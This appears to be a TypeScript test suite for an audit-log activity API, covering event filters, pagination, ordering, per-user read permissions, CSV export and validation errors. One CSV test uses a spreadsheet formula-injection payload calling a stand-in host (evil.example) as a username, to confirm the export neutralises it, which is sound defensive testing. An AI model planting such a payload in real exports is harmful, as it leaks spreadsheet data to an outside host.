// PE's activity service over the audit trail (CONTRACT §14): GET
// /activity-api/v1/events with PE's filters and shape, events.csv, and
// /activity-api/v2/events with PE's query array; who may read what; and a
// clear 400 for every filter this service cannot apply — on SQLite and
// PostgreSQL.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { recordEvent } from '../../src/audit/audit.js';
import { describeEachDatabase } from '../kit/databases.js';
import { assertError } from '../kit/errors.js';
import { USER_PASSWORD, startServiceWithAdmin, type TestService } from '../kit/service.js';

const V1 = '/activity-api/v1/events';
const V2 = '/activity-api/v2/events';

interface Party {
  id: string | null;
  name: string | null;
}
interface ActivityEvent {
  type: string;
  what: string;
  description: string;
  message: string;
}
interface CommitV1 {
  object: Party;
  subject: Party;
  timestamp: string;
  events: ActivityEvent[];
}
interface PageV1 {
  commits: CommitV1[];
  offset: number;
  limit: number;
  'total-rows': number;
}
interface CommitV2 {
  objects: (Party & { type: string })[];
  subject: Party & { type: string | null };
  timestamp: string;
  ip_address: string | null;
  service: { id: string };
  events: ActivityEvent[];
}
interface PageV2 {
  commits: CommitV2[];
  pagination: { total: number; limit: number; offset: number };
}

const query = (params: Record<string, string | string[]>) => {
  const search = new URLSearchParams();
  for (const [key, value] of Object.entries(params)) for (const one of [value].flat()) search.append(key, one);
  return search.toString();
};

describeEachDatabase('activity service', (target) => {
  let service: TestService;
  let admin: string;
  let adminId: string;
  before(async () => {
    ({ service, admin } = await startServiceWithAdmin(target.dialect));
    adminId = ((await service.request({ method: 'GET', url: '/rbac-api/v1/users/current', token: admin })).json() as { id: string }).id;
  });
  after(() => service?.close());

  const v1 = async (params: Record<string, string | string[]>, token = admin) => {
    const response = await service.request({ method: 'GET', url: `${V1}?${query({ service_id: 'rbac', ...params })}`, token });
    assert.equal(response.statusCode, 200, response.body);
    return response.json() as PageV1;
  };
  const v2 = async (params: Record<string, string>, filters?: unknown[], token = admin) => {
    const response = await service.request({ method: 'GET', url: `${V2}?${query({ ...params, ...(filters ? { query: JSON.stringify(filters) } : {}) })}`, token });
    assert.equal(response.statusCode, 200, response.body);
    return response.json() as PageV2;
  };
  const descriptions = (page: PageV1 | PageV2) => page.commits.map((commit) => commit.events[0]?.description);

  /** A user, logged in, with a role given by admin: user-created, login-succeeded, role-assigned. */
  async function member(login: string): Promise<{ id: string; token: string; roleId: number }> {
    const id = await service.createUser(login);
    const token = await service.login(login, USER_PASSWORD);
    const role = await service.request({ method: 'POST', url: '/rbac-api/v1/roles', token: admin, payload: { display_name: `Role of ${login}`, permissions: [], user_ids: [id] } });
    assert.equal(role.statusCode, 201, role.body);
    return { id, token, roleId: (role.json() as { id: number }).id };
  }

  test("v1: PE's shape — commits of object, subject, timestamp and events {type, what, description, message}; offset, limit, total-rows", async () => {
    const alice = await member('act-shape-alice');
    const page = await v1({ object_type: 'users', object_id: alice.id, order: 'asc' });
    assert.deepEqual(Object.keys(page).sort(), ['commits', 'limit', 'offset', 'total-rows']);
    assert.deepEqual([page.offset, page.limit, page['total-rows']], [0, 1000, 3]);
    for (const commit of page.commits) {
      assert.deepEqual(Object.keys(commit).sort(), ['events', 'object', 'subject', 'timestamp']);
      assert.match(commit.timestamp, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.deepEqual(commit.object, { id: alice.id, name: 'act-shape-alice' });
      assert.equal(commit.events.length, 1);
      assert.deepEqual(Object.keys(commit.events[0]!).sort(), ['description', 'message', 'type', 'what']);
    }
    const [created, login, assigned] = page.commits;
    assert.deepEqual(created?.subject, { id: adminId, name: 'admin' }, 'the subject is who acted');
    assert.deepEqual(created?.events, [{ type: 'create', what: 'user', description: 'user_created', message: `Created local user act-shape-alice (${alice.id}).` }]);
    assert.deepEqual(login?.subject, { id: alice.id, name: 'act-shape-alice' });
    assert.deepEqual(login?.events[0], { type: 'authenticate', what: 'user', description: 'login_succeeded', message: `User act-shape-alice (${alice.id}) logged in.` });
    assert.equal(assigned?.events[0]?.message, `User act-shape-alice (${alice.id}) added to role Role of act-shape-alice.`);
  });

  test('v1 subject filter: what these users did, ids comma-separated or repeated; subject_type alone is any user', async () => {
    const carol = await member('act-subject-carol');
    const dave = await member('act-subject-dave');
    const byCarol = await v1({ subject_type: 'users', subject_id: carol.id });
    assert.deepEqual(descriptions(byCarol), ['login_succeeded']);
    assert.ok(byCarol.commits.every((commit) => commit.subject.id === carol.id));
    const both = await v1({ subject_type: 'users', subject_id: `${carol.id},${dave.id}` });
    assert.equal(both['total-rows'], 2);
    assert.deepEqual(await v1({ subject_type: 'users', subject_id: [carol.id, dave.id] }), both, 'the vendor client repeats the parameter');
    // A failed login has no acting user: it is not among any user's activity.
    await service.request({ method: 'POST', url: '/rbac-api/v1/auth/token', payload: { login: 'act-subject-carol', password: 'not the password at all' } });
    const anyUser = await v1({ subject_type: 'users' });
    assert.ok(anyUser.commits.every((commit) => commit.subject.id !== null));
    const everything = await v1({});
    assert.ok(everything['total-rows'] > anyUser['total-rows'], 'events no user did are left out');
  });

  test('v1 object filter: events about those users or roles; a role membership is about both', async () => {
    const erin = await member('act-object-erin');
    const frank = await member('act-object-frank');
    const aboutErin = await v1({ object_type: 'users', object_id: erin.id });
    assert.deepEqual(descriptions(aboutErin), ['role_assigned', 'login_succeeded', 'user_created']);
    assert.equal((await v1({ object_type: 'users', object_id: `${erin.id},${frank.id}` }))['total-rows'], 6);
    const aboutRole = await v1({ object_type: 'roles', object_id: String(erin.roleId) });
    assert.deepEqual(descriptions(aboutRole), ['role_assigned', 'role_created']);
    assert.deepEqual(aboutRole.commits[1]?.object, { id: String(erin.roleId), name: 'Role of act-object-erin' });
    // The membership's v1 object is the user; v2 names the role too.
    assert.deepEqual(aboutRole.commits[0]?.object, { id: erin.id, name: 'act-object-erin' });
    const anyRole = await v1({ object_type: 'roles' });
    assert.ok(anyRole.commits.every((commit) => ['role_created', 'role_edited', 'role_deleted', 'role_assigned', 'role_removed'].includes(commit.events[0]!.description)));
    assert.equal((await v1({ object_type: 'users', object_id: '00000000-0000-4000-8000-000000000000' }))['total-rows'], 0);
    // Filters combine: what erin did to herself.
    assert.deepEqual(descriptions(await v1({ subject_type: 'users', subject_id: erin.id, object_type: 'users', object_id: erin.id })), ['login_succeeded']);
  });

  test("this service's own object types: signing keys by their kid, the disclaimer by its one id", async () => {
    const kid = await service.keys.rotate({ actor: null, sourceAddress: null });
    const byKid = await v1({ object_type: 'signing_keys', object_id: kid });
    assert.deepEqual(byKid.commits.map((commit) => [commit.object, commit.subject, commit.events[0]?.description]), [[{ id: kid, name: kid }, { id: null, name: null }, 'signing_key_rotated']]);
    assert.equal((await v1({ object_type: 'signing_keys', object_id: 'no-such-kid' }))['total-rows'], 0);
    assert.equal((await service.request({ method: 'POST', url: '/rbac-api/v1/command/config/set-disclaimer', token: admin, payload: { disclaimer: 'Authorized use only.' } })).statusCode, 204);
    const disclaimer = await v1({ object_type: 'disclaimer', object_id: 'disclaimer' });
    assert.deepEqual(disclaimer.commits.map((commit) => [commit.object, commit.events[0]?.message]), [[{ id: 'disclaimer', name: 'Disclaimer' }, 'Disclaimer set.']]);
    assert.deepEqual(await v1({ object_type: 'disclaimer', object_id: 'another' }), { commits: [], offset: 0, limit: 1000, 'total-rows': 0 }, 'no other disclaimer: nothing');
    assert.equal((await v1({ object_type: 'disclaimer' }))['total-rows'], 1);
  });

  test('v1 after_service_commit_time: only events recorded after that time', async () => {
    const db = service.store.db;
    const subject = { id: '9a000000-0000-4000-8000-000000000001', login: 'act-time-ghost' };
    for (const at of ['2001-01-01T00:00:00.000Z', '2001-01-02T00:00:00.000Z', '2001-01-03T00:00:00.000Z']) {
      await recordEvent(db, { type: 'account-revoked', actor: null, subject }, Date.parse(at));
    }
    const about = { object_type: 'users', object_id: subject.id };
    assert.deepEqual((await v1({ ...about, after_service_commit_time: '2001-01-02T00:00:00Z' })).commits.map((commit) => commit.timestamp), ['2001-01-03T00:00:00.000Z']);
    assert.equal((await v1({ ...about, after_service_commit_time: '2001-01-01T12:00:00+02:00' }))['total-rows'], 2);
    assert.equal((await v1({ ...about, after_service_commit_time: '2001-01-01' }))['total-rows'], 2, 'a date alone is its midnight, UTC');
    assert.equal((await v1({ ...about, after_service_commit_time: '2000-12-31T23:59:59.999999Z' }))['total-rows'], 3);
  });

  test('pagination: offset and limit select a window of commits; total-rows counts them all; limit is 1000 at most', async () => {
    const grace = await member('act-page-grace');
    for (let i = 0; i < 4; i++) await service.login('act-page-grace', USER_PASSWORD);
    const about = { object_type: 'users', object_id: grace.id };
    const all = await v1(about);
    assert.equal(all['total-rows'], 7);
    const pages: CommitV1[] = [];
    for (let offset = 0; offset < 7; offset += 3) {
      const page = await v1({ ...about, offset: String(offset), limit: '3' });
      assert.deepEqual([page.offset, page.limit, page['total-rows']], [offset, 3, 7]);
      pages.push(...page.commits);
    }
    assert.deepEqual(pages, all.commits, 'pages neither overlap nor skip');
    assert.deepEqual((await v1({ ...about, offset: '7' })).commits, []);
    assert.equal((await v1({ ...about, limit: '5000' })).limit, 1000, 'a larger limit is lowered to the maximum');
    const second = await v2({ offset: '1', limit: '2' }, [{ object_type: 'users', object_id: grace.id }]);
    assert.deepEqual(second.pagination, { total: 7, limit: 2, offset: 1 });
    assert.equal(second.commits.length, 2);
  });

  test('order: newest first by default, oldest first with order=asc; events of one time by the order they were written', async () => {
    const db = service.store.db;
    const subject = { id: '9a000000-0000-4000-8000-000000000002', login: 'act-order-ghost' };
    // Written out of time order, and two at the very same time.
    await recordEvent(db, { type: 'account-revoked', actor: null, subject }, Date.parse('2002-01-02T00:00:00Z'));
    await recordEvent(db, { type: 'account-locked', actor: null, subject, details: { failed_attempts: 3, locked_at: '2002-01-01T00:00:00.000Z', lockout_lifts_at: null, revoked_by: 'lockout' } }, Date.parse('2002-01-01T00:00:00Z'));
    await recordEvent(db, { type: 'account-unrevoked', actor: null, subject }, Date.parse('2002-01-02T00:00:00Z'));
    const about = { object_type: 'users', object_id: subject.id };
    assert.deepEqual(descriptions(await v1(about)), ['account_unrevoked', 'account_revoked', 'account_locked']);
    assert.deepEqual(descriptions(await v1({ ...about, order: 'asc' })), ['account_locked', 'account_revoked', 'account_unrevoked']);
    assert.deepEqual(descriptions(await v2({ order: 'asc' }, [{ object_type: 'users', object_id: subject.id }])), ['account_locked', 'account_revoked', 'account_unrevoked']);
  });

  test('v2: objects with their types, the subject with its type, ip_address, service; query filters of one kind widen, of different kinds narrow', async () => {
    const hank = await member('act-v2-hank');
    const ivy = await member('act-v2-ivy');
    const aboutHank = await v2({}, [{ object_type: 'users', object_id: hank.id }]);
    assert.deepEqual(aboutHank.pagination, { total: 3, limit: 1000, offset: 0 });
    const membership = aboutHank.commits[0]!;
    assert.deepEqual(Object.keys(membership).sort(), ['events', 'ip_address', 'objects', 'service', 'subject', 'timestamp']);
    assert.deepEqual(membership.objects, [
      { id: hank.id, name: 'act-v2-hank', type: 'users' },
      { id: String(hank.roleId), name: 'Role of act-v2-hank', type: 'roles' },
    ]);
    assert.deepEqual(membership.subject, { id: adminId, name: 'admin', type: 'users' });
    assert.equal(membership.ip_address, '127.0.0.1');
    assert.deepEqual(membership.service, { id: 'rbac' });

    const either = await v2({}, [{ object_type: 'users', object_id: hank.id }, { object_type: 'users', object_id: ivy.id }]);
    assert.equal(either.pagination.total, 6, 'two objects: events about either');
    const narrowed = await v2({}, [{ object_type: 'users', object_id: hank.id }, { object_type: 'users', object_id: ivy.id }, { subject_id: ivy.id }]);
    assert.deepEqual(descriptions(narrowed), ['login_succeeded'], 'and a subject: only what ivy did');
    assert.equal(narrowed.commits[0]?.subject.id, ivy.id);
    assert.equal((await v2({}, [{ subject_type: 'users', subject_id: ivy.id }])).pagination.total, 1, 'subject_type users is the default');
    assert.equal((await v2({}, [{ object_type: 'users', object_id: hank.id }, { ip_address: '127.0.0' }])).pagination.total, 3, 'a part of the address');
    assert.equal((await v2({}, [{ object_type: 'users', object_id: hank.id }, { ip_address: '10.9.' }])).pagination.total, 0);
    assert.equal((await v2({ service_id: 'rbac' }, [{ object_type: 'roles', object_id: String(hank.roleId) }])).pagination.total, 2);

    const db = service.store.db;
    const ghost = { id: '9a000000-0000-4000-8000-000000000003', login: 'act-v2-ghost' };
    for (const day of ['01', '02', '03', '04']) await recordEvent(db, { type: 'account-revoked', actor: null, subject: ghost, sourceAddress: '192.0.2.7' }, Date.parse(`2003-01-${day}T00:00:00Z`));
    const aboutGhost = { object_type: 'users', object_id: ghost.id };
    assert.equal((await v2({}, [aboutGhost, { start: '2003-01-02T00:00:00Z', end: '2003-01-03T00:00:00Z' }])).pagination.total, 2, 'start and end are inclusive');
    assert.equal(
      (await v2({}, [aboutGhost, { start: '2003-01-01T00:00:00Z', end: '2003-01-01T00:00:00Z' }, { start: '2003-01-04T00:00:00Z', end: '2003-01-05T00:00:00Z' }])).pagination.total,
      2,
      'two ranges: events in either',
    );
    assert.equal((await v2({}, [aboutGhost, { ip_address: '192.0.2.7' }])).pagination.total, 4);
    assert.equal((await v2({}, [aboutGhost])).commits[0]?.subject.type, null, 'no user acted');
  });

  test('CSV: v1 with PE\'s columns, v2 with the address; one row per event; quoting; a cell that could start a formula is inert', async () => {
    const mallory = await service.createUser('=HYPERLINK("http://evil.example/"&A1,"click")', { email: 'mallory@example.com', display_name: 'Mallory' });
    await service.login('=HYPERLINK("http://evil.example/"&A1,"click")', USER_PASSWORD);
    const response = await service.request({ method: 'GET', url: `${V1}.csv?${query({ service_id: 'rbac', object_type: 'users', object_id: mallory, order: 'asc' })}`, token: admin });
    assert.equal(response.statusCode, 200, response.body);
    assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/);
    const lines = response.body.trimEnd().split('\n');
    assert.equal(lines[0], 'Submit Time,Subject Type,Subject Id,Subject Name,Object Type,Object Id,Object Name,Type,What,Description,Message');
    assert.equal(lines.length, 3, 'a header and one row per event');
    assert.match(lines[1]!, /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3},users,/);
    // The login is the object's name: quoted (it has a comma and quotes), and led by ' so no spreadsheet runs it.
    assert.ok(lines[1]!.includes(`,users,${mallory},"'=HYPERLINK(""http://evil.example/""&A1,""click"")",create,user,user_created,`), lines[1]);
    assert.ok(lines[2]!.includes(`users,${mallory},"'=HYPERLINK(`), 'the user who acted is named the same way');
    assert.ok(lines.slice(1).every((line) => !/(^|,)[=+\-@]/.test(line)), 'no cell starts a formula');

    const csv2 = await service.request({ method: 'GET', url: `${V2}.csv?${query({ query: JSON.stringify([{ object_type: 'users', object_id: mallory }]) })}`, token: admin });
    assert.equal(csv2.statusCode, 200, csv2.body);
    const lines2 = csv2.body.trimEnd().split('\n');
    assert.equal(lines2[0], 'Submit Time,Subject Type,Subject Id,Subject Name,Object Type,Object Id,Object Name,Type,What,Description,Message,Ip Address');
    assert.ok(lines2[1]!.endsWith(',127.0.0.1'));
    // A message with a comma and quotes is one quoted cell.
    const edited = await service.request({ method: 'PUT', url: `/rbac-api/v1/users/${mallory}`, token: admin, payload: { email: 'm@example.com', display_name: 'M' } });
    assert.equal(edited.statusCode, 200);
    const row = (await service.request({ method: 'GET', url: `${V1}.csv?${query({ service_id: 'rbac', object_type: 'users', object_id: mallory, limit: '1' })}`, token: admin })).body.split('\n')[1]!;
    assert.ok(row.endsWith(`,edit,user,user_edited,"Changed email, display_name of user =HYPERLINK(""http://evil.example/""&A1,""click"") (${mallory})."`), row);
  });

  test('who reads what: superusers every event; another user only the events about themselves; 401 without a token', async () => {
    const judy = await member('act-perm-judy');
    const kim = await member('act-perm-kim');
    const own = await v1({}, judy.token);
    assert.ok(own['total-rows'] >= 3);
    assert.ok(own.commits.every((commit) => commit.object.id === judy.id), 'only events about judy');
    assert.deepEqual((await v1({ object_type: 'users', object_id: kim.id }, judy.token)).commits, [], "kim's events are not judy's to read");
    // Of the role events, only her own membership: it is about her too.
    assert.deepEqual(descriptions(await v1({ object_type: 'roles' }, judy.token)), ['role_assigned']);
    assert.deepEqual((await v1({ subject_type: 'users', subject_id: adminId }, judy.token)).commits.map((commit) => commit.object.id), [judy.id, judy.id], "what admin did to judy, and no more");
    const ownV2 = await v2({}, undefined, judy.token);
    assert.ok(ownV2.commits.every((commit) => commit.objects.some((object) => object.type === 'users' && object.id === judy.id)));
    const csv = (await service.request({ method: 'GET', url: `${V1}.csv?service_id=rbac`, token: judy.token })).body;
    assert.ok(!csv.includes(kim.id) && csv.includes(judy.id));
    // A superuser reads them all.
    assert.equal((await v1({ object_type: 'users', object_id: kim.id }))['total-rows'], 3);
    for (const url of [`${V1}?service_id=rbac`, `${V1}.csv?service_id=rbac`, V2, `${V2}.csv`]) {
      assertError(await service.request({ method: 'GET', url }), 401, 'user-unauthenticated');
      assertError(await service.request({ method: 'GET', url, token: 'not-a-login-token-at-all' }), 401, 'user-unauthenticated');
    }
    // The token in the query string authenticates too, as everywhere (PE accepts it).
    assert.equal((await service.request({ method: 'GET', url: `${V1}?service_id=rbac&token=${judy.token}` })).statusCode, 200);
  });

  test('a service other than rbac has no events here: an empty page; v1 needs service_id', async () => {
    assert.deepEqual(await v1({ service_id: 'classifier', object_type: 'node_groups', object_id: 'anything' }), { commits: [], offset: 0, limit: 1000, 'total-rows': 0 });
    assert.deepEqual(await v2({ service_id: 'orchestrator' }, [{ object_type: 'nodes', object_id: 'x' }]), { commits: [], pagination: { total: 0, limit: 1000, offset: 0 } });
    assert.ok((await v2({})).pagination.total > 0, 'v2 without service_id: every service, rbac among them');
    assertError(await service.request({ method: 'GET', url: V1, token: admin }), 400, 'schema-violation');
    const csv = await service.request({ method: 'GET', url: `${V1}.csv?service_id=classifier`, token: admin });
    assert.equal(csv.body, 'Submit Time,Subject Type,Subject Id,Subject Name,Object Type,Object Id,Object Name,Type,What,Description,Message\n');
  });

  test('a filter this service cannot apply is a 400 that says why, never ignored', async () => {
    const uuid = '00000000-0000-4000-8000-000000000000';
    const refusals: [string, string, string][] = [
      [V1, 'service_id=rbac&colour=blue', 'schema-violation'],
      [V1, 'service_id=rbac&subject_id=' + uuid, 'schema-violation'],
      [V1, 'service_id=rbac&object_id=' + uuid, 'schema-violation'],
      [V1, 'service_id=rbac&subject_type=roles', 'schema-violation'],
      [V1, 'service_id=rbac&subject_type=users&subject_id=kai', 'invalid-uuid'],
      [V1, `service_id=rbac&subject_type=users&subject_id=${uuid},`, 'schema-violation'],
      [V1, 'service_id=rbac&object_type=node_groups', 'schema-violation'],
      [V1, 'service_id=rbac&object_type=roles&object_id=admins', 'schema-violation'],
      [V1, 'service_id=rbac&object_type=users&object_id=not-a-uuid', 'invalid-uuid'],
      [V1, 'service_id=rbac&limit=0', 'schema-violation'],
      [V1, 'service_id=rbac&limit=ten', 'schema-violation'],
      [V1, 'service_id=rbac&offset=-1', 'schema-violation'],
      [V1, 'service_id=rbac&order=newest', 'schema-violation'],
      [V1, 'service_id=rbac&limit=1&limit=2', 'schema-violation'],
      [V1, 'service_id=rbac&after_service_commit_time=yesterday', 'schema-violation'],
      [V1, 'service_id=rbac&after_service_commit_time=2026-13-45T00:00:00Z', 'schema-violation'],
      [V1, 'service_id=classifier&limit=0', 'schema-violation'],
      [`${V1}.csv`, 'service_id=rbac&object_type=tables', 'schema-violation'],
      [V2, 'query=not json', 'schema-violation'],
      [V2, `query=${encodeURIComponent('{"object_type":"users"}')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"colour":"blue"}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"object_id":"x"}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent(`[{"object_type":"users","subject_id":"${uuid}"}]`)}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"start":"2020-01-01T00:00:00Z"}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"start":"2020-01-02T00:00:00Z","end":"2020-01-01T00:00:00Z"}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"subject_id":"kai"}]')}`, 'invalid-uuid'],
      [V2, `query=${encodeURIComponent('[{"ip_address":""}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent('[{"object_type":"users","object_id":["a"]}]')}`, 'schema-violation'],
      [V2, `query=${encodeURIComponent(JSON.stringify(Array.from({ length: 101 }, () => ({ ip_address: '1' }))))}`, 'schema-violation'],
      [V2, 'subject_type=users', 'schema-violation'],
      [`${V2}.csv`, 'order=up', 'schema-violation'],
    ];
    for (const [path, search, kind] of refusals) {
      const body = assertError(await service.request({ method: 'GET', url: `${path}?${search}`, token: admin }), 400, kind);
      assert.ok(!body.msg.includes('kai') && !body.msg.includes('not-a-uuid'), `${search}: the value is not quoted back`);
    }
    // At most 1,000 ids in one request.
    const ids = Array.from({ length: 1001 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
    const many = await service.request({ method: 'GET', url: `${V1}?service_id=rbac&object_type=users&object_id=${ids.join(',')}`, token: admin });
    assert.match(assertError(many, 400, 'schema-violation').msg, /at most 1000 ids/);
    assert.equal((await service.request({ method: 'GET', url: `${V1}?service_id=rbac&object_type=users&object_id=${ids.slice(0, 1000).join(',')}`, token: admin })).statusCode, 200);
  });
});
